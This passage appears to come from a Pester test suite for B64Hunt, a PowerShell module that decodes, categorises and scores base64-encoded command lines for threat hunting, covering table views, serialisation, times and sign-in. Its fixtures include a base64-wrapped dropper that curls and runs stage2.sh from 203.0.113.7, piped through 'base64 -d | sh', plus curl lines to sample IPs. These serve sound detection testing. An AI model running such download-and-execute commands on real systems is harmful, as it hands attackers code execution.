        $script:LongHost = $long | Measure-B64Score
    }

    It 'keeps every line within 80 columns where there is no console (a runbook), default width' {
        $lines = $Scores | Show-B64Timeline -NoColor
        $lines | Should -Not -BeNullOrEmpty
        ($lines | Measure-Object -Property Length -Maximum).Maximum | Should -BeLessOrEqual 80
        ($lines | Where-Object { $_ -like 'Rank*' }) | Should -BeLike '*Decoded command'
    }

    It 'still honours an explicit -Width (the axis columns) as before' {
        $lines = $Scores | Show-B64Timeline -NoColor -Width 100
        ($lines | Where-Object { $_ -like '+*' -or $_ -like ' *+---*' } | Select-Object -First 1).Trim().Length | Should -Be 102
        ($lines | Where-Object { $_ -like 'Rank*' }) | Should -BeLike '*Last seen (UTC)*'
    }

    It 'shortens long host names in the middle, keeping both ends' {
        $row = $LongHost | Show-B64Timeline -NoColor | Where-Object { $_ -like 'aks-*|*' }
        $row | Should -BeLike 'aks-nodepool*…*vmss000003 |*'
    }
}

Describe 'Help conventions' {
    It 'takes -ComputerName as an alias of -Computer (Get-B64Command, Get-B64RelatedAlert)' {
        (Get-Command Get-B64Command).Parameters['Computer'].Aliases | Should -Contain 'ComputerName'
        (Get-Command Get-B64RelatedAlert).Parameters['Computer'].Aliases | Should -Contain 'ComputerName'
        (Get-B64Command -CommandLine $Payload -ComputerName web7).Computer | Should -Be 'web7'
        @(Get-B64RelatedAlert -Sample -ComputerName web-03).Computer | Sort-Object -Unique | Should -Be 'web-03'
    }

    It 'reports a missing rule file as ObjectNotFound, and bad YAML as the terminating InvalidCategoryRuleFile, as the help says' {
        $missing = Join-Path $Work 'no-rules.yaml'
        $err = $null
        try { 'id' | Add-B64Category -RulePath $missing; throw 'not stopped' } catch { $err = $_ }
        $err.FullyQualifiedErrorId | Should -Be 'CategoryRuleFileNotFound,B64Hunt.Commands.AddB64CategoryCommand'
        $err.CategoryInfo.Category | Should -Be 'ObjectNotFound'
        "$err" | Should -Not -BeLike '*(0,0)*'
        $bad = Join-Path $Work 'bad-rules.yaml'; Set-Content -LiteralPath $bad -Value "rules:`n  - {id: x, category: [unclosed"
        try { Get-B64CategoryRule -RulePath $bad; throw 'not stopped' } catch { $err = $_ }
        $err.FullyQualifiedErrorId | Should -Be 'InvalidCategoryRuleFile,B64Hunt.Commands.GetB64CategoryRuleCommand'
        (Get-Help about_B64Hunt | Out-String) | Should -BeLike '*bad YAML stops the command*'
    }
}

Describe 'Install with PSResourceGet from a local file repository (the README install section)' {
    It 'registers a repository, publishes the module, installs it, imports it by name and runs the sample' {
        $home2 = Join-Path $Work 'home'
        New-Item -ItemType Directory -Path $home2 | Out-Null
        $child = Join-Path $Work 'install.ps1'
        Set-Content -LiteralPath $child -Value @'
param($Module, $Root)
$ErrorActionPreference = 'Stop'
$repo = Join-Path $Root 'repo'; New-Item -ItemType Directory -Path $repo -Force | Out-Null
Register-PSResourceRepository -Name B64HuntLocal -Uri $repo -Trusted
Publish-PSResource -Path $Module -Repository B64HuntLocal
Install-PSResource -Name B64Hunt -Repository B64HuntLocal -Scope CurrentUser -TrustRepository
Import-Module B64Hunt
"module base: $((Get-Module B64Hunt).ModuleBase)"
$scores = Get-B64Command -Sample -ErrorAction SilentlyContinue | Add-B64Category | Measure-B64Score
"scores: $($scores.Count)"
'@
        # A throw-away HOME: the repository registration and the installed module never touch the user's own.
        $saved = $env:HOME, $env:XDG_DATA_HOME, $env:XDG_CONFIG_HOME
        # From inside the throw-away HOME too: PSResourceGet and NuGet write config folders under the working directory.
        Push-Location -LiteralPath $home2
        try {
            $env:HOME = $home2; $env:XDG_DATA_HOME = $null; $env:XDG_CONFIG_HOME = $null
            $out = & dotnet (Join-Path $PSHOME 'pwsh.dll') -NoProfile -NonInteractive -File $child -Module $env:B64HUNT_MODULE -Root $home2 2>&1
        }
        finally { $env:HOME, $env:XDG_DATA_HOME, $env:XDG_CONFIG_HOME = $saved; Pop-Location }
        $text = $out -join "`n"
        $text | Should -BeLike "*module base: $home2*B64Hunt*"
        $count = [int](($out | Where-Object { "$_" -like 'scores: *' }) -replace 'scores: ', '')
        $count | Should -Be (Get-B64Command -Sample -ErrorAction SilentlyContinue | Add-B64Category | Measure-B64Score).Count
        Get-ChildItem -LiteralPath (Join-Path $home2 'repo') -Filter 'b64hunt.*.nupkg' | Should -Not -BeNullOrEmpty
    }
}

Describe 'Table headers are properties' {
    It 'filters and sorts CommandScores by the view headers Freq, Sev, Alert, Count and Hosts' {
        $scores = Get-B64Command -Sample -ErrorAction SilentlyContinue | Measure-B64Score -Alert (Get-B64RelatedAlert -Sample)
        $many = $scores | Where-Object Count -gt 5
        $many | Should -Not -BeNullOrEmpty
        @($many).Length | Should -Be @($scores | Where-Object CommandCount -gt 5).Length
        foreach ($s in $many) { $s.Count | Should -Be $s.CommandCount }
        ($scores | Where-Object Hosts -ge 2).DecodedCommand | Should -Be ($scores | Where-Object TotalHosts -ge 2).DecodedCommand
        ($scores | Where-Object Alert -gt 0).DecodedCommand | Should -Be ($scores | Where-Object AlertScore -gt 0).DecodedCommand
        $scores[0].Sev | Should -Be $scores[0].SevScore
        $scores[0].Freq | Should -Be $scores[0].FreqScore
        # The headers really are those of the views (Freq, Sev and Alert in the Wide one).
        ($scores | Select-Object -First 3 | Format-Table | Out-String -Width 200) | Should -BeLike '*Count*Hosts*'
        ($scores | Select-Object -First 3 | Format-Table -View Wide | Out-String -Width 250) | Should -BeLike '*Freq*Sev*Alert*Count*Hosts*'
    }

    It 'filters Iocs by Private and CommandEvents by Count' {
        $iocs = 'curl http://10.0.0.5/a; curl http://45.9.148.35/b' | Find-B64Ioc -Expand
        ($iocs | Where-Object Private).Normalized | Should -Contain '10.0.0.5'
        ($iocs | Where-Object { -not $_.Private }).Normalized | Should -Contain '45.9.148.35'
        ($iocs | Where-Object { -not $_.Private }).Normalized | Should -Not -Contain '10.0.0.5'
        @(Get-B64Command -CommandLine $Payload | Where-Object Count -eq 1).Count | Should -Be 1
    }
}

Describe 'Connect-B64Hunt and Disconnect-B64Hunt (fake Log Analytics on 127.0.0.1)' {
    BeforeAll {
        . (Join-Path $PSScriptRoot 'FakeHttpService.ps1')
        $script:Ws = '11111111-2222-3333-4444-555555555555'
        $cols = @('TimeGenerated:datetime', 'AlertName:string', 'AlertSeverity:string', 'Description:string', 'CompromisedEntity:string',
            'Entities:string', 'ExtendedProperties:string', 'SystemAlertId:string', 'ProviderName:string', 'Tactics:string',
            'Techniques:string', 'StartTime:datetime', 'EndTime:datetime') | ForEach-Object { $n, $t = $_ -split ':'; @{ name = $n; type = $t } }
        $script:EmptyAlerts = @{ tables = @(@{ name = 'PrimaryResult'; columns = $cols; rows = @() }) } | ConvertTo-Json -Depth 6
    }
    AfterEach { Disconnect-B64Hunt }

    It 'is exported with -Identity as the managed-identity switch (alias -UseManagedIdentity)' {
        (Get-Command Connect-B64Hunt).Parameters['Identity'].Aliases | Should -Contain 'UseManagedIdentity'
        Get-Command Disconnect-B64Hunt | Should -Not -BeNullOrEmpty
    }

    It 'signs in once: two queries with no sign-in parameter send the session token, and Disconnect forgets it' {
        $info = Connect-B64Hunt -WorkspaceId $Ws -AccessToken 'Bearer session-token-1'
        $info.WorkspaceId | Should -Be $Ws
        $info.Credential | Should -Be 'access token'
        ($info | Out-String) | Should -Not -Match 'session-token'
        $server = Start-FakeHttpService -Responses @(@{ Status = 200; Body = $EmptyAlerts }, @{ Status = 200; Body = $EmptyAlerts })
        try {
            $null = Get-B64RelatedAlert -WorkspaceId $Ws -Endpoint $server.Endpoint -Computer web1 -Last 1d -WarningAction SilentlyContinue
            $null = Get-B64RelatedAlert -WorkspaceId $Ws -Endpoint $server.Endpoint -Computer web2 -Last 1d -WarningAction SilentlyContinue
            $server.Log | Should -HaveCount 2
            $server.Log[0].Authorization | Should -BeExactly 'Bearer session-token-1'
            $server.Log[1].Authorization | Should -BeExactly 'Bearer session-token-1'
        }
        finally { Stop-FakeHttpService $server }
        (Disconnect-B64Hunt -Verbose 4>&1 | Out-String) | Should -Not -Match 'Not connected'
        (Disconnect-B64Hunt -Verbose 4>&1 | Out-String) | Should -Match 'Not connected'
    }

    It 'lets a sign-in parameter of the call win over the session' {
        $null = Connect-B64Hunt -AccessToken 'session-token-2'
        $server = Start-FakeHttpService -Responses @(@{ Status = 200; Body = $EmptyAlerts })
        try {
            $null = Get-B64RelatedAlert -WorkspaceId $Ws -Endpoint $server.Endpoint -AccessToken 'call-token' -Computer web1 -Last 1d -WarningAction SilentlyContinue
            $server.Log[0].Authorization | Should -BeExactly 'Bearer call-token'
        }
        finally { Stop-FakeHttpService $server }
    }

    It 'refuses -Interactive and -DeviceCode under pwsh -NonInteractive with a stable id' {
        $script = "Import-Module '$($env:B64HUNT_MODULE)'; foreach (`$a in @{ Interactive = `$true }, @{ DeviceCode = `$true }) { try { Connect-B64Hunt @a -ErrorAction Stop; 'connected' } catch { `$_.FullyQualifiedErrorId + ' ' + `$_.Exception.Message } }"
        $out = & dotnet (Join-Path $PSHOME 'pwsh.dll') -NoProfile -NonInteractive -Command $script
        $out | Should -HaveCount 2
        $out | ForEach-Object { $_ | Should -BeLike 'B64HuntInteractiveSignInRefused,B64Hunt.Commands.ConnectB64HuntCommand Use -Identity*cannot prompt*' }
    }

    It 'reports an unreachable endpoint as LogAnalyticsConnectionFailed, not Unauthorized' {
        $null = Connect-B64Hunt -AccessToken 'session-token-3'
        $probe = [System.Net.Sockets.TcpListener]::new([System.Net.IPAddress]::Loopback, 0)
        $probe.Start(); $port = $probe.LocalEndpoint.Port; $probe.Stop()
        Get-B64RelatedAlert -WorkspaceId $Ws -Endpoint "http://127.0.0.1:$port/" -Computer web1 -Last 1d -ErrorVariable err -ErrorAction SilentlyContinue
        $err[0].FullyQualifiedErrorId | Should -BeLike 'LogAnalyticsConnectionFailed,*'
    }
}

Describe 'RelatedAlert.Severity is an ordered enum' {
    BeforeAll {
        $script:SeverityCsv = Join-Path $Work 'severities.csv'
        @(
            'TimeGenerated [UTC],AlertName,AlertSeverity,CompromisedEntity'
            '2026-10-02T13:01:00.000Z,a-medium,Medium,web1'
            '2026-10-02T13:02:00.000Z,b-low,low,web1'
            '2026-10-02T13:03:00.000Z,c-info,Informational,web1'
            '2026-10-02T13:04:00.000Z,d-high,High,web1'
            '2026-10-02T13:05:00.000Z,e-critical,Critical,web1'
        ) | Set-Content -LiteralPath $SeverityCsv
    }

    It 'sorts by severity, not as text, with an unknown one lowest' {
        $alerts = Get-B64RelatedAlert -LiteralPath $SeverityCsv
        ($alerts | Sort-Object Severity).AlertName | Should -Be @('e-critical', 'c-info', 'b-low', 'a-medium', 'd-high')
        ($alerts | Sort-Object Severity -Descending)[0].AlertName | Should -Be 'd-high'
        $alerts[0].Severity | Should -BeOfType ([B64Hunt.Model.AlertSeverity])
    }

    It 'filters with the names as strings, -eq and -ge' {
        $alerts = Get-B64RelatedAlert -LiteralPath $SeverityCsv
        (($alerts | Where-Object Severity -eq 'High').AlertName) | Should -Be 'd-high'
        (($alerts | Where-Object Severity -ge 'Medium').AlertName) | Should -Be @('a-medium', 'd-high')
    }

    It 'keeps an unknown severity''s text, shows it, and warns UnknownAlertSeverity naming it when scored' {
        $critical = Get-B64RelatedAlert -LiteralPath $SeverityCsv | Where-Object AlertName -eq 'e-critical'
        $critical.Severity | Should -Be 'Unknown'
        $critical.SeverityText | Should -Be 'Critical'
        ($critical | Format-Table | Out-String -Width 120) | Should -BeLike '*Critical*e-critical*'
        $null = Get-B64Command -CommandLine $Payload -Computer web1 -TimeGenerated '2026-10-02T13:00:00Z' | Measure-B64Score -Alert $critical -WarningVariable w -WarningAction SilentlyContinue
        ($w | Where-Object { "$_" -like "*'Critical'*" }) | Should -Not -BeNullOrEmpty
    }

    It 'keeps the severity through Export-Clixml and Import-Clixml' {
        $xml = Join-Path $Work 'alerts.clixml'
        Get-B64RelatedAlert -LiteralPath $SeverityCsv | Export-Clixml -LiteralPath $xml
        $back = Import-Clixml -LiteralPath $xml
        ($back | Sort-Object { $_.Severity }).AlertName | Should -Be @('e-critical', 'c-info', 'b-low', 'a-medium', 'd-high')
        $events = Get-B64Command -CommandLine $Payload -Computer web1 -TimeGenerated '2026-10-02T13:00:00Z'
        $scored = $events | Measure-B64Score -Alert $back -WarningAction SilentlyContinue
        $live = $events | Measure-B64Score -Alert (Get-B64RelatedAlert -LiteralPath $SeverityCsv) -WarningAction SilentlyContinue
        $live.AlertScore | Should -BeGreaterThan 0
        $scored.AlertScore | Should -Be $live.AlertScore
    }
}

Describe 'Enums serialise as names in ConvertTo-Json' {
    It 'writes TiResult Severity and Status by name, and they read back' {
        $feed = Join-Path (Get-Module B64Hunt).ModuleBase 'data/sample/ti-feed.csv'
        $r = Get-B64Command -Sample -ErrorAction SilentlyContinue | Find-B64Ioc | Invoke-B64TiLookup -LocalFeed $feed |
            ForEach-Object TiResults | Where-Object Status -eq 'Ok' | Select-Object -First 1
        $r | Should -Not -BeNullOrEmpty
        $json = $r | ConvertTo-Json
        $json | Should -Match ('"Severity":\s*"' + $r.Severity + '"')
        $json | Should -Match '"Status":\s*"Ok"'
        $back = $json | ConvertFrom-Json
        [B64Hunt.Model.TiSeverity]$back.Severity | Should -Be $r.Severity
        # Still ordered for filtering.
        ([B64Hunt.Model.TiSeverity]'High' -gt [B64Hunt.Model.TiSeverity]'Low') | Should -BeTrue
    }

    It 'writes RelatedAlert Severity and provider KeySource by name, nested in a CommandScore too' {
        $alerts = Get-B64RelatedAlert -Sample
        ($alerts[0] | ConvertTo-Json) | Should -Match ('"Severity":\s*"' + $alerts[0].Severity + '"')
        $score = Get-B64Command -Sample -ErrorAction SilentlyContinue | Measure-B64Score -Alert $alerts | Where-Object { $_.Alerts.Count } | Select-Object -First 1
        ($score | ConvertTo-Json -Depth 3) | Should -Match '"Severity":\s*"(High|Medium|Low|Informational)"'
        ((Get-B64TiProvider | Select-Object -First 1) | ConvertTo-Json) | Should -Match '"KeySource":\s*"[A-Za-z]+"'
    }
}

Describe 'Times travel as ISO 8601 UTC' {
    BeforeAll {
        $script:Exact = [datetime]::SpecifyKind([datetime]'2026-10-02T13:01:12.345', 'Utc')
        $script:TimedEvents = Get-B64Command -CommandLine $Payload -Computer web1 -TimeGenerated '2026-10-02T13:01:12.345Z'
        $script:TimedAlertCsv = Join-Path $Work 'timed-alerts.csv'
        @(
            'TimeGenerated,AlertName,AlertSeverity,CompromisedEntity,StartTime,EndTime'
            '2026-10-02T13:05:01.250Z,timed,High,web1,2026-10-02T13:04:00.125Z,2026-10-02T13:04:30.500Z'
        ) | Set-Content -LiteralPath $TimedAlertCsv
    }

    It 'shows times in the default views as UTC with Z' {
        ($TimedEvents | Format-Table | Out-String -Width 120) | Should -BeLike '*2026-10-02 13:01:12Z*'
        ($TimedEvents | Format-List | Out-String -Width 120) | Should -BeLike '*TimeGenerated*: 2026-10-02 13:01:12Z*'
        $alert = Get-B64RelatedAlert -LiteralPath $TimedAlertCsv
        ($alert | Format-Table | Out-String -Width 120) | Should -BeLike '*2026-10-02 13:05:01Z*'
        ($alert | Format-List | Out-String -Width 120) | Should -BeLike '*StartTime*: 2026-10-02 13:04:00Z*'
        $score = $TimedEvents | Measure-B64Score
        ($score | Format-List | Out-String -Width 120) | Should -BeLike '*FirstSeen*: 2026-10-02 13:01:12Z*'
    }

    It 'writes ISO 8601 UTC times with milliseconds in a plain Export-Csv of events, scores and alerts, whatever the culture' {
        $old = [cultureinfo]::CurrentCulture
        try {
            [cultureinfo]::CurrentCulture = [cultureinfo]'de-DE'
            $e = Join-Path $Work 'timed-events.csv'; $s = Join-Path $Work 'timed-scores.csv'; $a = Join-Path $Work 'timed-alerts-out.csv'
            $TimedEvents | Export-Csv -LiteralPath $e
            $TimedEvents | Measure-B64Score | Export-Csv -LiteralPath $s
            Get-B64RelatedAlert -LiteralPath $TimedAlertCsv | Export-Csv -LiteralPath $a
        } finally { [cultureinfo]::CurrentCulture = $old }
        (Import-Csv -LiteralPath $e).TimeGeneratedUtc | Should -Be '2026-10-02T13:01:12.345Z'
        $scoreRow = Import-Csv -LiteralPath $s
        $scoreRow.FirstSeenUtc | Should -Be '2026-10-02T13:01:12.345Z'
        $scoreRow.LastSeenUtc | Should -Be '2026-10-02T13:01:12.345Z'
        $alertRow = Import-Csv -LiteralPath $a
        $alertRow.TimeGeneratedUtc | Should -Be '2026-10-02T13:05:01.250Z'
        $alertRow.StartTimeUtc | Should -Be '2026-10-02T13:04:00.125Z'
        $alertRow.EndTimeUtc | Should -Be '2026-10-02T13:04:30.500Z'
    }

    It 'reads the exported files back to the exact times (Get-B64Command -Path, Get-B64RelatedAlert -Path)' {
        $e = Join-Path $Work 'timed-events.csv'; $a = Join-Path $Work 'timed-alerts-out.csv'
        $events = Get-B64Command -LiteralPath $e
        $events.TimeGenerated | Should -Be $Exact
        $events.DecodedCommand | Should -Be $TimedEvents.DecodedCommand
        $events.Computer | Should -Be 'web1'
        $alert = Get-B64RelatedAlert -LiteralPath $a
        $alert.TimeGenerated | Should -Be ([datetime]::SpecifyKind([datetime]'2026-10-02T13:05:01.250', 'Utc'))
        $alert.EndTime | Should -Be ([datetime]::SpecifyKind([datetime]'2026-10-02T13:04:30.500', 'Utc'))
        $alert.Severity | Should -Be 'High'
    }

    It 'keeps the DateTime properties DateTimes for sorting and filtering' {
        $TimedEvents[0].TimeGenerated | Should -BeOfType ([datetime])
        @($TimedEvents | Where-Object TimeGenerated -gt ([datetime]'2026-01-01')).Count | Should -Be @($TimedEvents).Count
    }
}

Describe 'Default views at 80 columns' {
    BeforeAll {
        $script:Long = 'curl -s http://203.0.113.7/stage2.sh -o /tmp/.cache/s.sh && chmod +x /tmp/.cache/s.sh && /tmp/.cache/s.sh'
        $b64 = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($Long))
        $script:LongEvent = Get-B64Command -CommandLine "echo $b64 | base64 -d | sh" -Computer 'aks-nodepool1-12345678-vmss000003' -TimeGenerated '2026-10-02T13:01:12Z' -Account root | Add-B64Category
        function script:Shown([string] $Text) {
            # The decoded-command cell of the first row: from the header's DecodedCommand column to the line's end.
            $lines = $Text -split "`r?`n" | Where-Object { $_.Trim() }
            $at = $lines[0].IndexOf('DecodedCommand')
            $lines[2].Substring($at).TrimEnd('…').Length
        }
    }

    It 'leaves DecodedCommand at least 35 columns in the event and score tables at 80' {
        $t = $LongEvent | Format-Table | Out-String -Width 80
        ($t -split "`r?`n" | ForEach-Object Length | Measure-Object -Maximum).Maximum | Should -BeLessOrEqual 80
        Shown $t | Should -BeGreaterOrEqual 35
        $s = $LongEvent | Measure-B64Score | Format-Table | Out-String -Width 80
        Shown $s | Should -BeGreaterOrEqual 35
    }

    It 'lists DecodedCommand before CommandLine and EncodedText (the base64 blobs)' {
        $list = ($LongEvent | Format-List | Out-String -Width 200) -split "`r?`n"
        $at = { param($label) [array]::FindIndex([string[]]$list, [Predicate[string]] { param($l) $l -match "^$label\s+:" }) }
        & $at 'DecodedCommand' | Should -BeLessThan (& $at 'CommandLine')
        & $at 'DecodedCommand' | Should -BeLessThan (& $at 'EncodedText')
        & $at 'DecodedCommand' | Should -BeLessThan (& $at 'Categories')
        $score = ($LongEvent | Measure-B64Score | Format-List | Out-String -Width 200) -split "`r?`n"
        $list = $score
        & $at 'DecodedCommand' | Should -BeLessThan (& $at 'FreqScore')
    }

    It 'has a Wide event view with Account and Categories' {
        $w = $LongEvent | Format-Table -View Wide | Out-String -Width 200
        $w | Should -BeLike '*Account*Categories*DecodedCommand*'
        $w | Should -BeLike '*root*Network connections/Downloading*curl -s*'
    }
}

Describe 'Show-B64Timeline -Verbose states the alert rule its input was scored with' {
    BeforeAll {
        $script:RuleEvents = Get-B64Command -CommandLine $Payload -Computer web1 -TimeGenerated '2026-10-02T13:00:00Z'
        function script:VerboseOf([scriptblock] $Run) { @(& $Run 4>&1 | Where-Object { $_ -is [System.Management.Automation.VerboseRecord] } | ForEach-Object Message) }
    }

    It 'records the model and alert window on each CommandScore' {
        $s = $RuleEvents | Measure-B64Score -AlertWindow 30m
        $s.Model | Should -Be 'Default'
        $s.AlertWindow | Should -Be ([timespan]::FromMinutes(30))
        ($RuleEvents | Measure-B64Score -Model Notebook).AlertWindow | Should -BeNullOrEmpty
        ($s | Format-List | Out-String -Width 120) | Should -Match 'AlertWindow\s+: ±00:30:00'
    }

    It 'says the rule of piped scores, not the rule it would have used itself' {
        $scores = $RuleEvents | Measure-B64Score -AlertWindow 30m
        $v = VerboseOf { $scores | Show-B64Timeline -NoColor -Verbose | Out-Null }
        $v | Should -Contain "Piped scores: Default model: alerts count within ±00:30:00 of an execution on the alert's host, weighted by closeness."
        ($v | Where-Object { $_ -like 'Piped events:*' }) | Should -BeNullOrEmpty
        ($v | Where-Object { $_ -like '*±01:00:00*' }) | Should -BeNullOrEmpty
        $nb = $RuleEvents | Measure-B64Score -Model Notebook
        (VerboseOf { $nb | Show-B64Timeline -NoColor -Verbose | Out-Null }) | Should -Contain "Piped scores: Notebook model: every related alert of a command's host counts (the notebook's rule; -AlertWindow narrows it)."
    }

    It 'says the rule it scores piped events with, and keeps it through Export-Clixml' {
        (VerboseOf { $RuleEvents | Show-B64Timeline -NoColor -AlertWindow 2h -Verbose | Out-Null }) |
            Should -Contain "Piped events: Default model: alerts count within ±02:00:00 of an execution on the alert's host, weighted by closeness."
        $xml = Join-Path $Work 'rule-scores.clixml'
        $RuleEvents | Measure-B64Score -AlertWindow 45m | Export-Clixml -LiteralPath $xml
        (VerboseOf { Import-Clixml -LiteralPath $xml | Show-B64Timeline -NoColor -Verbose | Out-Null }) |
            Should -Contain "Piped scores: Default model: alerts count within ±00:45:00 of an execution on the alert's host, weighted by closeness."
    }
}
